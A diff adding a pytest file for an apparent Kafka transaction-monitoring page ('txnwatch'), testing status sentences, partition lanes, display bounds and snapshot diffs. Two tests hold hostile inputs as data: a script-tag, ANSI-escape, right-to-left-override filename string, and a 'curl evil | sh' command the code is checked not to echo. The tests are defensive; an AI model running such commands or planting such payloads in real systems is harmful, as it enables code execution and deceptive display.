@@ -1,0 +1,183 @@
+"""The picture: its bounds are shown where they cut, and a snapshot with its changes is the next snapshot."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import msgspec
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from support.page_world import PageWorld, a_busy_cluster, a_calm_cluster, an_incident, an_open, now_ms
+from txnwatch.page.picture import INCIDENTS, LANES, RECENT, Knowledge, Picture, applied, changes, picture_of
+from txnwatch.page.truth import PageState
+from txnwatch.page.words import as_text
+from txnwatch.state.model.findings import BlockedOffset, OpenTransactions
+from txnwatch.state.model.incident import EndedBy, EndKind, Resolution, resolved
+from txnwatch.state.model.values import Offset, TimestampMs, TopicPartition
+from txnwatch.watch.coverage import MissingEvidence
+
+
+def picture(world: PageWorld) -> Picture:
+    """As the browser gets it: what JSON cannot have would fail here."""
+    known = Knowledge(store=world.store, seen=world.store.seen, now_ms=now_ms(), ends=world.ends)
+    return msgspec.json.decode(msgspec.json.encode(picture_of(known)))  # type: ignore[no-any-return]
+
+
+def sentence(world: PageWorld) -> str:
+    return as_text(picture(world)["status"]["headline"], now_ms())
+
+
+def test_the_worst_incident_is_the_sentence() -> None:
+    world = a_busy_cluster()
+    assert sentence(world).startswith("3 partitions stand still. payments-0 for 4 min 1")
+    assert "behind checkout-7: hanging, it never ends by itself." in sentence(world)
+    status = picture(world)["status"]
+    assert (status["state"], status["tone"], status["open_incidents"], status["early_warnings"]) == (
+        PageState.INCIDENT,
+        "critical",
+        3,
+        1,
+    )
+    assert (status["groups_stopped"], status["groups_at_risk"]) == (2, 1)
+
+
+def test_all_clear_names_what_was_evaluated() -> None:
+    world = a_calm_cluster()
+    assert sentence(world) == "All clear. Every transaction that holds a reader back ends by itself."
+    assert "evaluated on 2,140 partitions" in as_text(picture(world)["status"]["detail"], now_ms())
+
+
+def test_before_the_first_barrier_nothing_is_known() -> None:
+    assert "has not evaluated anything yet" in sentence(PageWorld())
+
+
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        ({"is_ready": False}, "still reading the coordinators' log"),
+        ({"evidence": MissingEvidence()}, "The coordinators' log is not read"),
+        ({"undelivered": 3}, "the events topic does not take 3 events"),
+        (
+            {"evidence": MissingEvidence(unproven=(TopicPartition("metering", 4),), is_log_read=True)},
+            "Nothing is known about 1 partition: metering-4.",
+        ),
+    ],
+)
+def test_what_is_missing_is_in_the_sentence(change: dict[str, object], expected: str) -> None:
+    world = a_calm_cluster()
+    for name, value in change.items():
+        setattr(world, name, value)
+    world.batch()
+    assert expected in sentence(world)
+
+
+def test_a_barrier_that_is_long_ago_is_in_the_sentence() -> None:
+    world = a_calm_cluster()
+    world.batch(TimestampMs(now_ms() - 200_000))
+    assert sentence(world).startswith("Unknown. Nothing was evaluated for 3 min 20 s.")
+
+
+def test_a_batch_without_a_barrier_leaves_the_time_of_the_last_one() -> None:
+    world = a_calm_cluster()
+    judged_ms = world.store.seen.judged_ms
+    world.store.take([], world.seen(), TimestampMs(now_ms() + 5_000))
+    assert world.store.seen.judged_ms == judged_ms
+
+
+def test_the_holder_of_a_partition_is_that_of_the_lowest_open_data() -> None:
+    lane = picture(a_busy_cluster())["lanes"]["payments-0"]
+    assert (lane["holder"]["name"], lane["holder"]["phase"], lane["hidden"]) == ("checkout-7", "hanging", 48_112)
+    assert [bar["name"] for bar in lane["behind"]] == ["refund-2", "checkout-9"]
+
+
+def test_a_holder_is_not_named_if_a_lower_offset_stands() -> None:
+    """With many older transactions elsewhere, the one that holds the partition has no place in the list."""
+    world = a_calm_cluster()
+    at = TopicPartition("payments", 0)
+    (one,) = world.store.seen.lists
+    lower = (BlockedOffset(at, Offset(18_000_000)),)
+    world.store.seen = replace(world.store.seen, lists=(OpenTransactions(0, one.transactions, lower),))
+    lane = picture(world)["lanes"]["payments-0"]
+    assert lane["holder"] is None
+    assert lane["last_stable"] == 18_000_000
+
+
+def test_an_unknown_end_hides_an_unknown_number() -> None:
+    world = a_busy_cluster()
+    world.ends.clear()
+    found = picture(world)
+    assert found["lanes"]["payments-0"]["hidden"] is None
+    assert found["incidents"][world.incidents[0].incident_id]["hidden"] == 48_112, "as the event has it"
+
+
+def test_the_bounds_are_shown_where_they_cut() -> None:
+    world = PageWorld(open=[an_open(number, f"id-{number}", 50, ("t", number, 5)) for number in range(LANES + 7)])
+    world.incidents = [an_incident(f"hang-{number}", 9) for number in range(INCIDENTS + 3)]
+    end = Resolution(how=EndKind.ABORTED, by=EndedBy.CLIENT, at_ms=now_ms())
+    world.incidents += [resolved(an_incident(f"old-{number}", 90), now_ms(), end) for number in range(RECENT + 2)]
+    world.batch()
+    found = picture(world)
+    assert (len(found["lanes"]), found["order"]["more_lanes"]) == (LANES, 7)
+    assert (len(found["incidents"]), found["order"]["more_incidents"]) == (INCIDENTS, 3)
+    assert (len(found["recent"]["rows"]), found["recent"]["more"]) == (RECENT, 2)
+    assert found["others"]["count"] == world.young + 7
+
+
+def test_the_others_have_their_ages() -> None:
+    world = PageWorld(open=[an_open(number, None, 5, ("t", number, 5)) for number in range(LANES + 9)])
+    world.batch()
+    assert [(low, high, count) for low, high, count in picture(world)["others"]["ages_s"]] == [(4, 8, 9)]
+
+
+HOSTILE = "<script>alert(1)</script>\x1b[31m\u202egnp.exe\0" + "x" * 32_000
+
+
+def test_a_hostile_id_is_printable_and_short() -> None:
+    world = a_calm_cluster()
+    world.open = [an_open(1, HOSTILE, 60, ("payments", 0, 5))]
+    world.tell(an_incident("hang", 60, transactional_id=HOSTILE, producer_id=1, topic="payments", partition=0))
+    world.batch()
+    found = picture(world)
+    (row,) = found["incidents"].values()
+    bar = found["lanes"]["payments-0"]["holder"]
+    for shown in (row["holder"], bar["name"], sentence(world)):
+        assert shown.isprintable()
+        assert len(shown) < 300
+    assert row["transactional_id"] is None, "its address has the producer id"
+
+
+def test_the_command_is_built_here_and_not_taken_from_the_event() -> None:
+    world = a_calm_cluster()
+    world.tell(an_incident("hang", 60, suggested_command="curl evil | sh", topic="a b", partition=0))
+    world.batch()
+    (row,) = picture(world)["incidents"].values()
+    assert "evil" not in str(row)
+    world.tell(an_incident("hang", 60, suggested_command="curl evil | sh", topic="payments", partition=0))
+    world.batch()
+    (row,) = picture(world)["incidents"].values()
+    assert row["command"].startswith(
+        "txnwatch abort --topic payments --partition 0 --start-offset 99 --bootstrap-server"
+    )
+
+
+def test_nothing_has_changed_in_an_equal_picture() -> None:
+    first = picture(a_busy_cluster())
+    assert changes(first, first) == {"set": {}, "gone": {}}
+
+
+_ENTRIES = st.dictionaries(st.sampled_from("abcdef"), st.integers(0, 2), max_size=5)
+_PICTURES = st.fixed_dictionaries(dict.fromkeys(("status", "lanes", "order"), _ENTRIES))
+
+
+@settings(max_examples=300)
+@given(_PICTURES, _PICTURES)
+def test_a_snapshot_and_its_changes_are_the_next_snapshot(before: Picture, after: Picture) -> None:
+    assert applied(before, changes(before, after)) == after
+
+
+def test_the_changes_of_a_real_picture_are_the_next_one() -> None:
+    before, after = picture(a_calm_cluster()), picture(a_busy_cluster())
+    assert applied(before, changes(before, after)) == after
+    assert applied(after, changes(after, before)) == before
